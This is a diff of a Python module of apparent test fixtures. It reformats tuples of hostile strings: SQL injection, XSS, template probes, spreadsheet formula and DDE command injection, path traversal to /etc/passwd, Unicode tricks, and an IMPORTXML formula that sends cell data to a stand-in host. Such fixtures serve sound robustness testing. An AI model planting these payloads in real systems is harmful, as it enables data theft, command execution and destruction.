@@ -2,6 +2,7 @@
 
 They are inert everywhere but in software that renders or obeys what it stores. Links lead to names that can't exist.
 """
+# ruff: noqa: E501 - word lists read best as they are written
 
 from __future__ import annotations
 
@@ -18,8 +19,23 @@ USER_AGENTS: Final = (
     "'; DROP TABLE events; --",
     "{{7*7}} %s%s%n",
 )  # fmt: skip
-LOCAL_PARTS: Final = ("=1+1+{local}", "+{local}", "-2+3+{local}", "@sum{local}", "<b>{local}</b>", "{local}\u202e", '"{local}"')
-END_USERS: Final = ("<svg onload=alert(1)>", "=cmd|' /C calc'!A0", "@SUM(1+1)", "u\u202e0042", "\u0000null", "../../etc/passwd")
+LOCAL_PARTS: Final = (
+    "=1+1+{local}",
+    "+{local}",
+    "-2+3+{local}",
+    "@sum{local}",
+    "<b>{local}</b>",
+    "{local}\u202e",
+    '"{local}"',
+)
+END_USERS: Final = (
+    "<svg onload=alert(1)>",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "u\u202e0042",
+    "\u0000null",
+    "../../etc/passwd",
+)
 PROMPTS: Final = (
     "<img src=x onerror=alert(document.domain)> is this valid HTML?",
     "=IMPORTXML(CONCAT(\"http://collect.invalid/?\",A1),\"//a\") why does my sheet show an error?",
